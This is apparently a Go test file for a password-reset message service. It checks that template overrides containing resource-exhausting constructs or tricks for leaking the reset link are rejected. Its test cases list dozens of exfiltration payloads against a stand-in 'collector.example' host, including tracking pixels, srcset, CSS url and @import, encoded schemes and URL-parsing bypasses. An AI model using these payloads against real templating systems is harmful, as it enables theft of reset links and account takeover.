package delivery_test

import (
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/resetd/resetd/internal/delivery"
)

// testRules are an institution whose reset page is reset.demobank.example.
var testRules = delivery.OverrideRules{
	LinkBases: []string{"https://reset.demobank.example/reset"},
	MaxLen: map[string]int{
		"DisplayName": 100, "UserName": 1024, "Link": 200, "DisputeLink": 200,
		"Code": 10, "ExpiresIn": 16, "Changed": 16,
	},
}

// The attacks of issue 15, and their relatives: each is refused with the
// part, the construct and where it stands.
func TestHostileOverridesAreRefused(t *testing.T) {
	t.Parallel()
	base := delivery.DefaultTemplates()
	tests := []struct {
		name, key, src string
		want           []string // in the error
	}{
		{"range over a number", "reset_link.email.subject", "{{range 200000000}}{{end}}", []string{"range is not allowed", "at line 1, column 1:"}},
		{"range over a field", "otp.email.text", "x\n{{range .Code}}y{{end}}", []string{"range", "at line 2, column 1:"}},
		{"with", "otp.email.text", "{{with .Code}}{{.}}{{end}}", []string{"with is not allowed"}},
		{"define", "otp.email.text", `{{define "x"}}{{.Code}}{{end}}{{.Code}}`, []string{"define is not allowed"}},
		{"define named like the part", "reset_link.email.subject", `{{define "reset_link.email.subject"}}{{range 200000000}}{{end}}{{end}}`, []string{"define is not allowed"}},
		{"define named like the part, html", "reset_link.email.html", `{{define "reset_link.email.html"}}<img src="https://collector.example/{{.Link}}">{{end}}`, []string{"define is not allowed"}},
		{"template", "otp.email.text", `{{template "otp.email.text" .}}`, []string{"template is not allowed"}},
		{"block", "otp.email.text", `{{block "b" .}}{{.Code}}{{end}}`, []string{"not allowed"}},
		{"function call", "otp.email.text", "{{printf \"%0999999d\" 1}}", []string{`function call "printf"`}},
		{"builtin on a field", "otp.email.text", "{{len .Code}}", []string{`function call "len"`}},
		{"the old duration helper", "otp.email.text", "{{duration .ExpiresIn}}", []string{`function call "duration"`}},
		{"unknown function", "otp.email.text", "{{shout .Code}}", []string{`function call "shout"`}},
		{"pipeline", "otp.email.text", "{{.Code | print}}", []string{"pipeline"}},
		{"variable", "otp.email.text", "{{$x := .Code}}{{$x}}", []string{"variable"}},
		{"dot", "otp.email.text", "{{.}}", []string{`"."`}},
		{"unknown field", "otp.sms.text", "{{.Cod}} is your code", []string{`".Cod" is not a placeholder`}},
		{"field chain", "otp.sms.text", "{{.Code.Len}}", []string{"not a placeholder"}},
		{"constant", "otp.sms.text", `{{"https://evil.example"}}`, []string{"constant"}},
		{"if on a call", "otp.sms.text", `{{if eq .Code "1"}}x{{end}}`, []string{`function call "eq"`}},
		{"nested range in if", "otp.sms.text", `{{if .Code}}{{range .Code}}{{end}}{{end}}`, []string{"range"}},
		{"tracking pixel", "reset_link.email.html", `<p>hi</p><img src="https://collector.example/p.gif?l={{.Link}}">`, []string{`"https://collector.example/p.gif?l="`, "not under the institution's linkBases"}},
		{"scheme without slashes", "reset_link.email.html", `<img src="https:collector.example/p.gif">`, []string{`"https:collector.example/p.gif"`}},
		{"scheme before the link", "reset_link.email.html", `<img src="https:{{.Link}}">`, []string{`"https:"`}},
		{"entity slashes", "reset_link.email.html", `<img src="https:&sol;&sol;collector.example/p.gif">`, []string{"collector.example"}},
		{"in a comment", "reset_link.email.html", `<!-- <img src="https://collector.example/p.gif"> -->`, []string{"collector.example"}},
		{"srcset", "reset_link.email.html", `<img srcset="https://collector.example/a.png 1x">`, []string{"collector.example"}},
		{"link in srcset", "reset_link.email.html", `<img srcset="{{.Link}} 1x">`, []string{"{{.Link}} stands"}},
		{"protocol-relative", "reset_link.email.html", `<img src="//collector.example/p.gif">`, []string{"//collector.example"}},
		{"backslashes", "reset_link.email.html", `<img src="/\collector.example/p.gif">`, []string{"collector.example"}},
		{"entity-encoded scheme", "reset_link.email.html", `<img src="h&#116;tps://collector.example/p.gif">`, []string{"https://collector.example"}},
		{"tab in scheme", "reset_link.email.html", "<img src=\"ht\ttps://collector.example/\">", []string{"https://collector.example"}},
		{"CSS url", "reset_link.email.html", `<div style="background:url(https://collector.example/b.png)">x</div>`, []string{"https://collector.example/b.png"}},
		{"CSS escape", "reset_link.email.html", `<div style="background:url(\68 ttps://collector.example/b.png)">x</div>`, []string{"collector.example"}},
		{"style block import", "reset_link.email.html", `<style>@import "https://collector.example/a.css";</style>`, []string{"collector.example"}},
		{"traversal out of the base", "reset_link.email.html", `<img src="https://reset.demobank.example/reset/../collect?x=1">`, []string{"not under"}},
		{"user info", "reset_link.email.html", `<img src="https://reset.demobank.example/reset@collector.example/">`, []string{"not under"}},
		{"other port", "reset_link.email.html", `<img src="https://reset.demobank.example:8443/reset/x.png">`, []string{"not under"}},
		{"user name as a URL", "reset_link.email.html", `<img src="{{.UserName}}?{{.Link}}">`, []string{"{{.UserName}} stands inside a tag"}},
		{"user name in an attribute", "reset_link.email.html", `<meta http-equiv="refresh" content="0;url={{.UserName}}">`, []string{"{{.UserName}} stands inside a tag"}},
		{"link in CSS", "reset_link.email.html", `<div style="color:{{.Link}}">x</div>`, []string{"in CSS or a script"}},
		{"link in a script", "reset_link.email.html", `<script>var l = {{.Link}};</script>`, []string{"in CSS or a script"}},
		{"broken html", "password_changed.email.html", `<a href="{{.DisputeLink}}>`, []string{"password_changed.email.html"}},
		{"too long", "otp.email.text", strings.Repeat("a", delivery.MaxOverrideBytes+1), []string{"16385 bytes, at most 16384"}},
		{"renders too much", "reset_link.email.html", strings.Repeat("{{.UserName}}", 12), []string{"renders up to", "at most 65536"}},
		{"unknown key", "reset_link.email.body", "hello", []string{"unknown key"}},
		{"sms has no html", "otp.sms.html", "<p>{{.Code}}</p>", []string{"unknown key"}},
		{"unclosed action", "reset_link.email.subject", "Reset {{.DisplayName", []string{"reset_link.email.subject"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			got, err := base.WithOverrides(map[string]string{tc.key: tc.src}, testRules)
			if err == nil {
				t.Fatalf("WithOverrides = %v, want an error", got)
			}
			var te *delivery.TemplateError
			if !errors.As(err, &te) {
				t.Fatalf("error %v (%T) is not a *TemplateError", err, err)
			}
			if te.Key != tc.key {
				t.Errorf("error names part %q, want %q", te.Key, tc.key)
			}
			for _, w := range tc.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("error %q does not say %q", err, w)
				}
			}
		})
	}
}

// The 697-byte conditional override of issue 15 rendered gigabytes with
// range; with if alone an override renders at most its text plus one
// value per placeholder, so even a hostile one stays small.
func TestOverrideRenderIsBounded(t *testing.T) {
	t.Parallel()
	src := strings.Repeat("{{if .Link}}{{.Link}}{{.Link}}{{else}}{{.Link}}{{end}}", 20)
	custom, err := delivery.DefaultTemplates().WithOverrides(map[string]string{"reset_link.email.text": src}, testRules)
	if err != nil {
		t.Fatalf("WithOverrides: %v", err)
	}
	d := sampleData()
	r, err := custom.Render(delivery.KindResetLink, delivery.ChannelEmail, d)
	if err != nil {
		t.Fatalf("Render: %v", err)
	}
	if want := 40 * len(d.Link); len(r.Text) != want+1 {
		t.Errorf("text is %d bytes, want %d", len(r.Text), want+1)
	}
	// Data longer than the rules promised is cut off by the render's own
	// budget instead of growing the message.
	d.UserName = strings.Repeat("u", delivery.MaxMessageBytes)
	if _, err := custom.Render(delivery.KindResetLink, delivery.ChannelEmail, d); !errors.Is(err, delivery.ErrMessageTooLarge) {
		t.Errorf("Render with a 64 KiB user name: %v, want ErrMessageTooLarge", err)
	}
}

func TestNormalOverridesRender(t *testing.T) {
	t.Parallel()
	over := map[string]string{
		"reset_link.email.subject": "{{.DisplayName}}: reset your password",
		"reset_link.email.text":    "Hi{{if .UserName}} {{.UserName}}{{end}},\n{{.Link}}\n{{if .ExpiresIn}}Valid for {{.ExpiresIn}}.{{else}}Valid once.{{end}}{{if .DisputeLink}}\nNot you? {{.DisputeLink}}{{end}}",
		"reset_link.email.html": `<!DOCTYPE html><html><body style="font-family:Arial">` +
			`<p title="greeting">Hi {{.UserName}},</p><p><a href="{{.Link}}">Reset</a> ({{.ExpiresIn}})</p>` +
			`<p>{{if .DisputeLink}}<a href="{{.DisputeLink}}">Not you?</a>{{else}}Ignore this mail.{{end}}</p>` +
			`<p>Help: <a href="https://reset.demobank.example/reset/help">reset.demobank.example</a></p>` +
			`<img alt="" src="https://reset.demobank.example/reset/logo.png"></body></html>`,
		"otp.sms.text":                  "{{.DisplayName}} code {{.Code}}",
		"contact_changed.email.text":    "Your {{.Changed}} at {{.DisplayName}} changed.",
		"password_changed.email.html":   "<p>{{.DisplayName}}: your password changed{{if .DisputeLink}} — <a href={{.DisputeLink}}>not you?</a>{{end}}</p>",
		"password_changed.sms.text":     "{{.DisplayName}}: password changed.",
		"otp.email.html":                "<title>{{.DisplayName}}</title><p>{{.Code}}</p>",
		"contact_changed.email.html":    "<p>{{.Changed}}</p>",
		"contact_changed.email.subject": "{{.Changed}} changed",
	}
	custom, err := delivery.DefaultTemplates().WithOverrides(over, testRules)
	if err != nil {
		t.Fatalf("WithOverrides: %v", err)
	}
	d := sampleData()
	d.UserName = `<b>jane</b>`
	r, err := custom.Render(delivery.KindResetLink, delivery.ChannelEmail, d)
	if err != nil {
		t.Fatalf("Render: %v", err)
	}
	if r.Subject != "Demo Bank: reset your password" {
		t.Errorf("subject = %q", r.Subject)
	}
	mustContain(t, r.Text, "Hi <b>jane</b>,\n"+d.Link+"\nValid for 60 minutes.\nNot you? "+d.DisputeLink)
	mustContain(t, r.HTML, "Hi &lt;b&gt;jane&lt;/b&gt;,")
	mustContain(t, r.HTML, `<a href="`+d.Link+`">Reset</a> (60 minutes)`)
	mustContain(t, r.HTML, `<a href="`+d.DisputeLink+`">Not you?</a>`)

	d.DisputeLink, d.ExpiresIn, d.UserName = "", 0, ""
	r, err = custom.Render(delivery.KindResetLink, delivery.ChannelEmail, d)
	if err != nil {
		t.Fatalf("Render: %v", err)
	}
	mustContain(t, r.Text, "Hi,\n"+d.Link+"\nValid once.")
	mustContain(t, r.HTML, "Ignore this mail.")

	c, err := custom.Render(delivery.KindContactChanged, delivery.ChannelEmail, delivery.TemplateData{DisplayName: "Demo Bank", Changed: "phone number"})
	if err != nil {
		t.Fatalf("Render contact_changed: %v", err)
	}
	if c.Subject != "phone number changed" || !strings.Contains(c.Text, "Your phone number at Demo Bank changed.") {
		t.Errorf("contact_changed = %+v", c)
	}
	sms, err := custom.Render(delivery.KindOTP, delivery.ChannelSMS, delivery.TemplateData{DisplayName: "Demo Bank", Code: "123456", ExpiresIn: time.Minute})
	if err != nil || sms.Text != "Demo Bank code 123456" {
		t.Errorf("sms = %q, %v", sms.Text, err)
	}
}
